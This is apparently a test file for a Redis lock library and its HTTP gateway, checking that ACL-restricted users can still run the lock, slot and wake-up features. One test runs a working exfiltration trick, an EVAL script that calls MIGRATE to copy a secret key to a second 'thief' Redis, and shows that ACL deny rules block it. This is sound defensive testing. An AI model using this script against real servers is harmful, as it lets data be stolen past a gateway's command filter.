import { Redis } from 'ioredis'
import { expect, test } from 'vitest'
import { quarantine, Redlock, throttle, withSlots, withWakeUp } from '../../src/index.ts'
import { ioredisBackend } from '../../tools/servers/ioredis.ts'
import { startRedis } from '../../tools/servers/redis.ts'
import { eventually } from '../support/eventually.ts'
import { isStream, longTtl, never, over } from '../wake-up/waiters.ts'
import { openEvents } from './streams.ts'
import { startGateway, token } from './support.ts'

// The permissions that the lock needs, as documented in docs/understand/security.md; also with `withSlots`.
const minPermissions =
  '~lock:* +@connection +eval +evalsha +time +info +mget +set +del +pttl'.split(' ')

// What `withWakeUp` needs besides.
const wakeUpPermissions =
  '&lock:q:* +exists +zadd +zrem +zpopmin +pexpire +publish +subscribe'.split(' ')

/** A gateway to a Redis whose user has only these permissions. `admin` has all of them. */
const restricted = async (permissions: readonly string[], allow: readonly string[]) => {
  await using started = new AsyncDisposableStack()
  const redis = await startRedis()
  started.defer(() => redis.stop())
  const address = { host: '127.0.0.1', port: redis.port }
  const founder = new Redis(address)
  await founder.call('ACL', 'SETUSER', 'admin', 'reset', 'on', '>secret', '~*', '&*', '+@all')
  await founder.call('ACL', 'SETUSER', 'default', 'reset', 'on', 'nopass', ...permissions)
  founder.disconnect()
  const admin = new Redis({ ...address, username: 'admin', password: 'secret' })
  started.defer(() => admin.disconnect())
  const backend = ioredisBackend(address)
  started.defer(() => backend.close())
  const server = await startGateway({ ...backend, allow })
  started.defer(() => server.close())
  const ending = started.move()
  return { server, admin, [Symbol.asyncDispose]: () => ending.disposeAsync() }
}

test('the lock works with an ACL user that has only the documented permissions', async () => {
  await using rest = await restricted(minPermissions, ['EVAL', 'EVALSHA'])
  const { server } = rest
  const node = { url: server.url, token, volatile: quarantine() }
  const redlock = new Redlock({ nodes: [node] })
  // A new volatile node is quarantined: it has run everything that comes before the script.
  const rejection = await redlock.tryAcquire('report')
  expect(rejection).toMatchObject({ reason: 'unavailable', nodes: [{ status: 'quarantined' }] })

  const lasting = new Redlock({ nodes: [{ url: server.url, token }] })
  const lock = await lasting.acquire('report')
  await lock.extend()
  expect(await lock.fencingToken()).toBeGreaterThan(0)
  expect((await lasting.tryAcquire('report')).ok).toBe(false)
  expect(await lock.release()).toBe('released')
  expect((await throttle(lasting, 'submit', { window: 1000 })).ok).toBe(true)

  for (const [name, ...args] of [['GET', 'other'], ['KEYS', '*'], ['FLUSHALL']]) {
    const script = `return redis.call(${[name, ...args].map((word) => `'${word}'`).join()})`
    const [status, answer] = await server.post('/', ['EVAL', script, 0])
    expect([status, JSON.stringify(answer)]).toEqual([
      400,
      expect.stringMatching(/permission|can't (?:run|access)|NOPERM/i),
    ])
  }
  expect((await server.post('/', ['GET', 'lock:l:report']))[0]).toBe(400)
})

test('slots work with the same permissions', async () => {
  await using rest = await restricted(minPermissions, ['EVAL', 'EVALSHA'])
  const redlock = withSlots(new Redlock({ nodes: [{ url: rest.server.url, token }] }))
  const [first, second] = [
    await redlock.acquire('import', { limit: 2 }),
    await redlock.acquire('import', { limit: 2 }),
  ]
  expect(await redlock.tryAcquire('import', { limit: 2 })).toMatchObject({ reason: 'locked' })
  await first.extend()
  expect(await first.fencingToken()).toBeGreaterThan(0)
  expect(await first.release()).toBe('released')
  expect(await second.release()).toBe('released')
  const window = { window: 60_000, limit: 1 }
  expect((await throttle(redlock, 'submit', window)).ok).toBe(true)
  expect((await throttle(redlock, 'submit', window)).ok).toBe(false)
})

/** Waits until this many calls that wait for the lock `report` can be woken. */
const untilQueued = (admin: Redis, count: number): Promise<void> =>
  eventually(async () => expect(await admin.zcard('lock:q:lock:l:report')).toBe(count))

test('wake-up works with the documented permissions besides those of the lock', async () => {
  const permissions = [...minPermissions, ...wakeUpPermissions]
  await using rest = await restricted(permissions, ['EVAL', 'EVALSHA', 'SUBSCRIBE'])
  const { server, admin } = rest
  const client = (): Redlock =>
    withWakeUp(new Redlock({ nodes: [{ url: server.url, token }], retry: never }))
  const held = await client().acquire('report', { ttl: longTtl })
  const waiting = client().acquire('report', { wait: 50_000 })
  await untilQueued(admin, 1)
  expect(await admin.pttl('lock:q:lock:l:report')).toBeGreaterThan(0)
  const leaving = new AbortController()
  const { signal } = leaving
  const left = client().acquire('report', { wait: 50_000, signal })
  await untilQueued(admin, 2)
  leaving.abort(new Error('enough'))
  await expect(left).rejects.toThrow('enough')
  await untilQueued(admin, 1)
  expect(await held.release()).toBe('released')
  const lock = await waiting
  await lock.extend()
  expect(await lock.release()).toBe('released')

  for (const path of ['/subscribe/news', '/subscribe/lock:l:report']) {
    const init = { headers: { accept: 'text/event-stream' } }
    expect((await server.request(path, init)).status).toBe(400)
  }
})

test('wake-up polls where `allow` lacks SUBSCRIBE', async () => {
  const permissions = [...minPermissions, ...wakeUpPermissions]
  await using rest = await restricted(permissions, ['EVAL', 'EVALSHA'])
  const { server, admin } = rest
  const statuses: number[] = []
  const nodes = over([{ url: server.url, token }], async (sent, send) => {
    const response = await send()
    if (isStream(sent)) statuses.push(response.status)
    return response
  })
  const redlock = withWakeUp(new Redlock({ nodes, retry: { delay: 20, maxDelay: 40 } }))
  const held = await redlock.acquire('report', { ttl: longTtl })
  const waiting = redlock.acquire('report', { wait: 50_000 })
  await eventually(() => expect(statuses).toEqual([400]))
  await held.release()
  expect(await (await waiting).release()).toBe('released')
  expect(await admin.exists('lock:q:lock:l:report')).toBe(0)
})

// The permissions of a gateway for any application, as documented in docs/understand/security.md.
const dataPermissions = '~* &* +@all -@admin -migrate -restore'.split(' ')

const migrate = "return redis.call('MIGRATE', ARGV[1], ARGV[2], KEYS[1], 0, 1000, 'COPY')"

test('a script sends data to another server, unless an ACL forbids it', async () => {
  const redis = await startRedis()
  const thief = await startRedis()
  const admin = new Redis({ host: '127.0.0.1', port: redis.port })
  const stolen = new Redis({ host: '127.0.0.1', port: thief.port })
  const backend = ioredisBackend({ host: '127.0.0.1', port: redis.port })
  const server = await startGateway(backend)
  try {
    const steal = ['EVAL', migrate, 1, 'secret', '127.0.0.1', thief.port]
    await admin.set('secret', 'x')
    expect(
      (await server.post('/', ['MIGRATE', '127.0.0.1', thief.port, 'secret', 0, 1000]))[0],
    ).toBe(400)
    expect(await server.post('/', steal)).toEqual([200, { result: 'OK' }])
    expect(await stolen.get('secret')).toBe('x')

    await stolen.flushall()
    await admin.call('ACL', 'SETUSER', 'default', 'reset', 'on', 'nopass', ...dataPermissions)
    const rejected = [400, { error: expect.stringMatching(/permission|can't (?:run|access)/i) }]
    expect(await server.post('/', steal)).toEqual(rejected)
    expect(await server.post('/pipeline', [steal])).toEqual([200, [rejected[1]]])
    expect(await stolen.dbsize()).toBe(0)
    for (const command of ['RESTORE', 'BGSAVE', 'SLOWLOG']) {
      const status = (await server.post('/', [command, 'a', '0', 'b']))[0]
      expect([command, status]).toEqual([command, 400])
    }

    // The commands that an application needs still work.
    const upstash = server.upstash()
    expect(await upstash.set('a', 1)).toBe('OK')
    expect(await upstash.multi().incr('a').get('a').exec()).toEqual([2, 2])
    expect(await upstash.eval("return redis.call('GET', KEYS[1])", ['a'], [])).toBe(2)
    const events = await openEvents(server, '/subscribe/chat')
    expect(await upstash.publish('chat', 'hello')).toBe(1)
    expect(await events.event(1)).toBe('message,chat,hello')
    events.leave()
    await expect(upstash.flushall()).rejects.toThrow('@dangerous')
  } finally {
    await server.close()
    await backend.close()
    admin.disconnect()
    stolen.disconnect()
    await thief.stop()
    await redis.stop()
  }
}, 20_000)
